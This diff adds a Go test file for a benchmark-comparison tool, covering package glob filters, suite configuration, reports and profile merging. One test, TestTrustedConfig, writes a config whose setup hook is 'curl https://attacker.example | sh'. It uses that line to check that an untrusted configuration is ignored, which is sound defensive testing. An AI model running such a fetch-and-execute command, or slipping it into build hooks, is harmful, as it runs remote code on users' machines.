@@ -0,0 +1,210 @@
+package bench
+
+import (
+	"bytes"
+	"os"
+	"path/filepath"
+	"regexp"
+	"testing"
+	"time"
+
+	"github.com/go-kit/log"
+	"github.com/google/pprof/profile"
+	"github.com/stretchr/testify/require"
+	"golang.org/x/perf/benchfmt"
+
+	"github.com/grafana/pyrobench/config"
+)
+
+func TestFilterPackages(t *testing.T) {
+	pkgs := func(paths ...string) []Package {
+		result := make([]Package, 0, len(paths))
+		for _, p := range paths {
+			result = append(result, Package{meta: &packageMeta{ImportPath: p}})
+		}
+		return result
+	}
+	importPaths := func(pkgs []Package) []string {
+		var result []string
+		for _, p := range pkgs {
+			result = append(result, p.meta.ImportPath)
+		}
+		return result
+	}
+
+	all := []string{
+		"example.com/repo",
+		"example.com/repo/pkg/storage",
+		"example.com/repo/pkg/storage/index",
+		"example.com/repo/pkg/query",
+		"example.com/repo/cmd/tool",
+	}
+
+	for _, tc := range []struct {
+		name     string
+		args     CompareArgs
+		expected []string
+	}{
+		{
+			name:     "no globs",
+			expected: all,
+		},
+		{
+			name:     "include tree",
+			args:     CompareArgs{Packages: []string{"example.com/repo/pkg/..."}},
+			expected: all[1:4],
+		},
+		{
+			name:     "include glob",
+			args:     CompareArgs{Packages: []string{"example.com/repo/*/storage"}},
+			expected: all[1:2],
+		},
+		{
+			name: "include and exclude",
+			args: CompareArgs{
+				Packages:        []string{"example.com/repo/pkg/..."},
+				ExcludePackages: []string{"example.com/repo/pkg/storage/..."},
+			},
+			expected: all[3:4],
+		},
+		{
+			name:     "exclude only",
+			args:     CompareArgs{ExcludePackages: []string{"example.com/repo/cmd/*", "example.com/repo"}},
+			expected: all[1:4],
+		},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			require.NoError(t, tc.args.validateGlobs())
+			require.Equal(t, tc.expected, importPaths(tc.args.filterPackages(pkgs(all...))))
+		})
+	}
+}
+
+func TestValidateGlobs(t *testing.T) {
+	args := CompareArgs{Packages: []string{"example.com/[repo"}}
+	require.ErrorContains(t, args.validateGlobs(), `invalid package glob "example.com/[repo"`)
+}
+
+func TestSuiteFilter(t *testing.T) {
+	cfg := filepath.Join(t.TempDir(), "pyrobench.yaml")
+	require.NoError(t, os.WriteFile(cfg, []byte(`suites:
+  storage:
+    packages: [example.com/repo/pkg/storage/...]
+    exclude_packages: [example.com/repo/pkg/storage/index]
+    bench: BenchmarkWrite
+    count: 3
+    time: 100x
+`), 0o644))
+
+	_, err := loadSuiteFilter(&config.Args{Path: cfg}, "nightly")
+	require.EqualError(t, err, `unknown suite "nightly", defined are storage`)
+
+	f, err := loadSuiteFilter(&config.Args{Path: cfg}, "storage")
+	require.NoError(t, err)
+	require.Equal(t, 3, *f.Count)
+	require.Equal(t, "100x", *f.Time)
+
+	pkg := func(importPath string) *Package {
+		return &Package{meta: &packageMeta{ImportPath: importPath}}
+	}
+	require.True(t, f.matches(pkg("example.com/repo/pkg/storage"), "BenchmarkWrite"))
+	require.False(t, f.matches(pkg("example.com/repo/pkg/storage"), "BenchmarkRead"))
+	require.False(t, f.matches(pkg("example.com/repo/pkg/storage/index"), "BenchmarkWrite"))
+	require.False(t, f.matches(pkg("example.com/repo/pkg/query"), "BenchmarkWrite"))
+
+	// the benchmark filter only applies to filters without a regex
+	args := &CompareArgs{Suite: "storage", Config: &config.Args{Path: cfg}, BenchFilter: regexp.MustCompile("Read")}
+	filters, err := args.filters([]*BenchmarkFilter{{}})
+	require.NoError(t, err)
+	require.Len(t, filters, 2)
+	require.Equal(t, "Read", filters[0].Filter.String())
+	require.Equal(t, "BenchmarkWrite", filters[1].Filter.String())
+}
+
+func TestTrustedConfig(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "pyrobench.yaml")
+	require.NoError(t, os.WriteFile(path, []byte(`packages:
+  example.com/repo/...:
+    setup: curl https://attacker.example | sh
+`), 0o644))
+
+	cfg, err := (&CompareArgs{Config: &config.Args{Path: path}}).config()
+	require.NoError(t, err)
+	require.NotNil(t, newPackageHooks(cfg, "example.com/repo/pkg"))
+
+	// the configuration of an untrusted head is ignored
+	trusted := &config.Config{}
+	cfg, err = (&CompareArgs{Config: &config.Args{Path: path}, TrustedConfig: trusted}).config()
+	require.NoError(t, err)
+	require.Same(t, trusted, cfg)
+	require.Nil(t, newPackageHooks(cfg, "example.com/repo/pkg"))
+}
+
+func TestGenerateReportRemoved(t *testing.T) {
+	b := &Benchmark{}
+	p := &Package{meta: &packageMeta{ImportPath: "example.com/repo/pkg"}}
+	rpt := b.generateReport([][]*benchWithKey{{
+		{key: benchKey{"example.com/repo/pkg", "BenchmarkKept"}, bench: &bench{base: p, head: p, reason: reasonChanged}},
+		{key: benchKey{"example.com/repo/pkg", "BenchmarkNew"}, bench: &bench{head: p, reason: reasonNew}},
+		{key: benchKey{"example.com/repo/pkg", "BenchmarkOld"}, bench: &bench{base: p, reason: reasonRemoved}},
+	}})
+	require.Len(t, rpt.ComparedRuns(), 2)
+	removed := rpt.RemovedRuns()
+	require.Len(t, removed, 1)
+	require.Equal(t, "example.com/repo/pkg.BenchmarkOld", removed[0].Name)
+}
+
+func TestRequestedTime(t *testing.T) {
+	p := &Package{meta: &packageMeta{ImportPath: "example.com/repo/pkg"}}
+	other := &Package{meta: &packageMeta{ImportPath: "example.com/repo/other"}}
+	benchmarks := []*benchWithKey{
+		{key: benchKey{"example.com/repo/pkg", "BenchmarkA"}, bench: &bench{base: p, head: p}},
+		{key: benchKey{"example.com/repo/pkg", "BenchmarkB"}, bench: &bench{base: p, head: p}},
+		{key: benchKey{"example.com/repo/pkg", "BenchmarkNew"}, bench: &bench{head: p}},
+		{key: benchKey{"example.com/repo/other", "BenchmarkA"}, bench: &bench{base: other, head: other}},
+	}
+	args := &CompareArgs{BenchTime: "2s", BenchCount: 5}
+
+	// every matched benchmark counts, not every filter
+	groups, filter := groupBenchmarks(benchmarks, nil)
+	require.Equal(t, (2+2+1+2)*5*2*time.Second, args.requestedTime(groups, filter))
+
+	tenSeconds, iterations, one := "10s", "100x", 1
+	groups, filter = groupBenchmarks(benchmarks, []*BenchmarkFilter{
+		{Filter: regexp.MustCompile("A"), Packages: []string{"example.com/repo/pkg"}, Time: &tenSeconds},
+		{Filter: regexp.MustCompile("New"), Time: &iterations, Count: &one},
+	})
+	// iterations count as the default benchtime
+	require.Equal(t, 2*5*10*time.Second+1*1*2*time.Second, args.requestedTime(groups, filter))
+
+	groups, _ = groupBenchmarks(benchmarks, []*BenchmarkFilter{{Filter: regexp.MustCompile("Missing")}})
+	require.Nil(t, groups)
+}
+
+func TestAddRunResultMergesRounds(t *testing.T) {
+	round := func(iters int, values ...int64) *benchmarkResult {
+		p := testCPUProfile(values...)
+		buf := new(bytes.Buffer)
+		require.NoError(t, p.Write(buf))
+		return &benchmarkResult{
+			Name:       "BenchmarkX",
+			RawResult:  []*benchfmt.Result{{Name: benchfmt.Name("BenchmarkX"), Iters: iters, Values: []benchfmt.Value{{Value: 100, Unit: "sec/op"}}}},
+			CPU:        profileResult{profile: p},
+			cpuProfile: buf.Bytes(),
+		}
+	}
+
+	b := &Benchmark{logger: log.NewNopLogger(), statBuilders: map[string]*StatBuilder{}}
+	r := &benchWithKey{key: benchKey{packagePath: "example.com/m", benchmark: "BenchmarkX"}, bench: &bench{}}
+	b.addRunResult(r, benchSourceBase, round(10, 100, 200), nil)
+	b.addRunResult(r, benchSourceBase, round(30, 300), nil)
+	// resumed results have no profiles
+	b.addRunResult(r, benchSourceBase, &benchmarkResult{Name: "BenchmarkX", RawResult: []*benchfmt.Result{{Name: benchfmt.Name("BenchmarkX"), Iters: 50}}}, nil)
+
+	require.Equal(t, 40, r.baseResult.iterations())
+	require.Equal(t, int64(600), sumProfiles(r.baseResult.CPU.profile, 0))
+	merged, err := profile.ParseData(r.baseResult.cpuProfile)
+	require.NoError(t, err)
+	require.Equal(t, int64(600), sumProfiles(merged, 0))
+	require.Nil(t, r.headResult)
+}